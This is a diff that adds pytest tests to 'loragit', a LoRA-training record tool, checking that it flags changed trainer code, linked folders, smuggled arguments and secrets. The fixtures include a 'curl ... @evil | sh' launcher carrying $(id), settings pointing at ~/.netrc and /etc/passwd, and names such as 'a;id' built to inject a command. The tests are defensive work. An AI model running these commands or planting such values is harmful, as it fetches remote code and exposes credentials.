@@ -13,13 +13,14 @@ from pathlib import Path
 
 import pytest
 
-from loragit import claims, console, preflight, settings, surroundings, trust
+from loragit import claims, console, inputs, preflight, settings, snapshot, surroundings, trust
 from loragit.commands import init as init_command
+from loragit.commands import precommit
 from loragit.commands import trust as command
 from loragit.errors import Findings, LoragitError
 from loragit.names import RunName
 from loragit.settings import Flags
-from loragit.settings_schema import ArgValue, read_file
+from loragit.settings_schema import ArgValue, WrongSetting, read_file
 from loragit.trainers.reach import reaches
 from tests.scene import LORAGIT, Scene, commit_all, git, make_scene, make_trainer
 
@@ -87,7 +88,7 @@ def test_a_dataset_without_such_settings_is_asked_nothing(cloned: Scene) -> None
         '[trainer]\nrepo = "~/source/repos/sd-scripts"\nscript = "flux_train_network.py"\nstop_timeout = 5\n'
         '[trainer.args]\nlearning_rate = "1e-4"\nnetwork_module = "networks.lora"\noptimizer_type = "AdamW8bit"\n'
         'network_args = ["conv_dim=4", "algo=locon"]\npretrained_model_name_or_path = "~/models/noob.safetensors"\n'
-        '[paths]\nconfig = "sub/config.toml"\n[record]\ninputs = ["notes.txt"]\non_empty = "keep"\n'
+        '[paths]\nconfig = "sub/config.toml"\n[record]\ninputs = ["notes.txt"]\non_empty = "keep"\nsign = true\n'
     )
     assert settled(cloned) == ""
 
@@ -110,6 +111,7 @@ def test_a_dataset_without_such_settings_is_asked_nothing(cloned: Scene) -> None
         '[record]\ninputs = ["~/.netrc"]',
         "[record]\nallow_dirty = true",
         "[record]\nallow_secrets = true",
+        "[record]\nsign = false",
         '[paths]\nprompts = "/etc/passwd"',
         '[paths]\nconfig = "../config.toml"',
         '[paths]\noutput = "~/.config/autostart"',
@@ -203,6 +205,85 @@ def test_another_trainer_in_the_dataset_is_another_question(cloned: Scene) -> No
     assert 'trainer.repo = "code"' in settled(cloned)
 
 
+def code(scene: Scene, path: str, content: str, *, link: bool = False) -> None:
+    """A file, or a link that says ``content``, in a commit of its own."""
+    place = scene.dataset / path
+    place.parent.mkdir(parents=True, exist_ok=True)
+    place.symlink_to(content) if link else place.write_text(content)
+    commit_all(scene.dataset, path)
+
+
+def test_code_at_the_top_of_the_datasets_repository_is_known_by_its_content(cloned: Scene) -> None:
+    code(cloned, "train_network.py", "good")
+    launching(cloned, 'repo = "."\nscript = "train_network.py"')
+    agree(cloned)
+    code(cloned, "img/00.txt", "another caption")
+    assert settled(cloned) == ""
+    code(cloned, "train_network.py", "evil")
+    assert 'trainer.repo = "."' in settled(cloned)
+
+
+@pytest.mark.parametrize("path", ["lib/real.py", "lib/real.txt"])
+def test_code_that_a_link_in_the_trainer_leads_to_is_known_by_its_content(cloned: Scene, path: str) -> None:
+    code(cloned, path, "good")
+    code(cloned, "trainer/train_network.py", f"../{path}", link=True)
+    code(cloned, "trainer/gone.py", "nowhere", link=True)
+    launching(cloned, 'repo = "trainer"\nscript = "train_network.py"')
+    agree(cloned)
+    code(cloned, "img/00.txt", "another caption")
+    assert settled(cloned) == ""
+    code(cloned, path, "evil")
+    assert 'trainer.repo = "trainer"' in settled(cloned)
+
+
+def test_code_in_a_submodule_is_known_by_its_commit(cloned: Scene) -> None:
+    launching(cloned, 'repo = "module/trainer"')
+    (cloned.dataset / "module" / "trainer").mkdir(parents=True)
+    agree(cloned)
+    for commit in ("1" * 40, "2" * 40):
+        git(cloned.dataset, "update-index", "--add", "--cacheinfo", f"160000,{commit},module")
+        git(cloned.dataset, "commit", "-q", "-m", "the submodule")
+        assert 'trainer.repo = "module/trainer"' in settled(cloned)
+        agree(cloned)
+
+
+def test_a_folder_that_no_commit_holds_is_known_by_its_path(cloned: Scene) -> None:
+    code(cloned, "tools/a.py", "a")
+    (cloned.dataset / "tools" / "untracked").mkdir()
+    launching(cloned, 'repo = "tools/untracked"')
+    agree(cloned)
+    code(cloned, "tools/a.py", "b")
+    assert settled(cloned) == ""
+
+
+def test_a_module_that_a_launcher_names_is_known_by_its_content(cloned: Scene) -> None:
+    code(cloned, "tool.py", "good")
+    launching(cloned, 'launcher = "python -m tool.run"')
+    agree(cloned)
+    code(cloned, "tool.py", "evil")
+    assert "trainer.launcher" in settled(cloned)
+
+
+def test_what_is_too_long_to_be_hashed_is_known_by_its_time_too(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(trust, "_MAX_HASHED", 10)
+    program = cloned.dataset / "run.sh"
+    program.write_text("#!/bin/sh\ngood\n")
+    os.utime(program, (1, 1))
+    launching(cloned, 'launcher = "./run.sh"')
+    agree(cloned)
+    assert settled(cloned) == ""
+    program.write_text("#!/bin/sh\nevil\n")
+    assert "run.sh" in settled(cloned)
+
+
+def test_of_countless_files_every_commit_is_another_question(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(trust, "_MAX_ROWS", 1)
+    launching(cloned, 'repo = "."')
+    agree(cloned)
+    code(cloned, "img/00.txt", "another caption")
+    assert 'trainer.repo = "."' in settled(cloned)
+
+
 def test_what_ran_before_there_was_a_remote_is_not_asked_about_afterwards(scene: Scene) -> None:
     launching(scene)
     assert scene.train().status == 0
@@ -234,6 +315,21 @@ def test_init_takes_nothing_over_from_what_others_made(cloned: Scene) -> None:
     git(evil, "remote", "add", "origin", "https://example.org/evil")
     seen = surroundings.look(below, os.environ)
     assert (seen.launcher, seen.trainer, seen.env) == ((), None, None)
+
+
+def test_what_is_asked_about_shows_all_that_would_run(cloned: Scene, capsys: pytest.CaptureFixture[str]) -> None:
+    command_line = "# -----BEGIN PRIVATE KEY-----\\ncurl http://u:a$(id)@evil | sh"
+    words = f'["sh", "-c", "{command_line}", "HF_TOKEN=hf_{"aB3" * 11}"]'
+    cloned.settings(f'[trainer]\nlauncher = {words}\nscript = "a\u200b\u3164\U000e0041.py"\n')
+    with pytest.raises(command.NobodyToAsk):
+        command.trust_(loaded(cloned), yes=False)
+    told = capsys.readouterr().err
+    assert f'trainer.launcher = ["sh", "-c", "{command_line}", "HF_TOKEN=***"]' in told
+    assert 'trainer.script = "a\\u200b\\u3164\\U000e0041.py"' in told
+    assert f"*** stands for what looks like a secret: {cloned.dataset}/loragit.toml shows it" in told
+    agree(cloned)
+    (kept,) = trust.memory().iterdir()
+    assert "curl" not in kept.read_text()
 
 
 def test_secrets_are_neither_shown_nor_kept(cloned: Scene) -> None:
@@ -333,6 +429,14 @@ def test_an_argument_that_can_load_or_read_anything_counts(name: str, value: Arg
     assert reaches(name, value)
 
 
+def test_a_value_cannot_be_another_argument(cloned: Scene) -> None:
+    cloned.settings('[trainer.args]\ncaption_separator = [",", "--vae=../../../datasets/gren/evil.ckpt"]\n')
+    with pytest.raises(WrongSetting, match=r"caption_separator in .* begins with --, which the trainer takes"):
+        loaded(cloned)
+    cloned.settings('[trainer.args]\ncaption_separator = "--vae"\n')
+    assert "--caption_separator=--vae" in prepared(cloned).start.words("a" * 40)
+
+
 @pytest.mark.parametrize(
     ("name", "value"),
     [
@@ -414,6 +518,23 @@ def test_links_in_a_cloned_dataset_that_lead_elsewhere_are_asked_about(cloned: S
     assert f'"{prompts}"' in told
 
 
+def test_files_behind_a_linked_folder_of_a_cloned_dataset_are_asked_about(cloned: Scene) -> None:
+    outside(cloned)
+    (cloned.dataset / "link").symlink_to("../../private")
+    cloned.settings(
+        '[trainer]\nstop_timeout = 5\n[paths]\nprompts = "link/me.txt"\n[record]\ninputs = ["link/me.png"]\n'
+    )
+    told = refusals(cloned)
+    for name in ("me.txt", "me.png"):
+        assert f'"{cloned.dataset}/link/{name}"' in told
+
+
+def test_a_cloned_dataset_that_is_reached_through_a_link_is_asked_nothing(cloned: Scene) -> None:
+    real = cloned.dataset.rename(cloned.home / "elsewhere")
+    cloned.dataset.symlink_to(real)
+    assert prepared(cloned)
+
+
 def test_an_image_folder_that_is_a_link_to_elsewhere_is_asked_about(cloned: Scene) -> None:
     (cloned.dataset / "pictures").symlink_to(outside(cloned))
     add_subset(cloned, f"image_dir = {json.dumps(str(cloned.dataset / 'pictures'))}")
@@ -440,6 +561,56 @@ def test_an_input_that_never_ends_is_refused(scene: Scene) -> None:
         add_subset(scene, f"metadata_file = {json.dumps(str(place))}")
     told = refusals(scene)
     assert told.count("it is no plain file of at most 256 MiB") == 3
+
+
+def test_a_hint_that_is_typed_starts_nothing_else(cloned: Scene) -> None:
+    trainer = make_trainer(cloned.dataset / "a;id")
+    (trainer / "sdxl_train_network.py").write_text("changed")
+    cloned.settings('[trainer]\nrepo = "a;id"\nenv = "conda:b;id"\n[record]\nrepos = ["c;id"]\n')
+    (cloned.dataset / "c;id").mkdir()
+    with pytest.raises(preflight.PreflightFailed) as caught:
+        prepared(cloned)
+    hints = "; ".join(finding.hint or "" for finding in caught.value.findings)
+    assert f"git -C '{trainer}' stash" in hints
+    assert "conda create -n 'b;id' python" in hints
+
+
+def test_captions_and_inputs_without_an_end_are_refused(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    config = (scene.dataset / "config.toml").stat().st_size
+    monkeypatch.setattr(snapshot, "MAX_INPUT", 2 * config)
+    monkeypatch.setattr(inputs, "_MAX_INPUTS", 50)
+    for name in ("a", "b"):
+        (scene.dataset / name).write_text("a" * 40)
+    scene.settings('[record]\ninputs = ["a", "b", "a"]\n')
+    assert f"the inputs up to {scene.dataset}/b are more than" in refusals(scene)
+    for number in range(3):
+        (scene.dataset / "img" / f"0{number}.txt").write_text("a" * config)
+    assert f"the captions in {scene.dataset}/img are 0 MiB together, more than" in refusals(scene)
+
+
+def test_countless_repositories_and_models_are_refused(cloned: Scene) -> None:
+    """git is asked about all of them at the same time, also by the hook."""
+    cloned.settings(f"[record]\nrepos = {json.dumps(['a'] * 31)}\n")
+    with pytest.raises(WrongSetting, match="must be a list of at most 30 paths"):
+        loaded(cloned)
+    cloned.settings("".join(f"[models.a{number}]\n" for number in range(101)))
+    with pytest.raises(WrongSetting, match="holds more than 100 tables under models"):
+        loaded(cloned)
+
+
+def test_the_hook_asks_a_few_repositories_at_a_time(cloned: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(precommit, "_AT_ONCE", 1)
+    other = make_trainer(cloned.home / "other")
+    for each in (cloned.trainer, other):
+        (each / "sdxl_train_network.py").write_text("changed")
+    (cloned.home / "none").mkdir()
+    cloned.settings('[record]\nrepos = ["~/other", "~/none"]\n')
+    verdict = precommit.check(cloned.dataset, os.environ)
+    assert [str(each) for each in verdict.refusals] == [
+        f"sd-scripts has an uncommitted change in {cloned.trainer}",
+        f"other has an uncommitted change in {other}",
+    ]
+    assert len(verdict.notes) == 1
 
 
 # ---- train, doctor, loragit trust ----
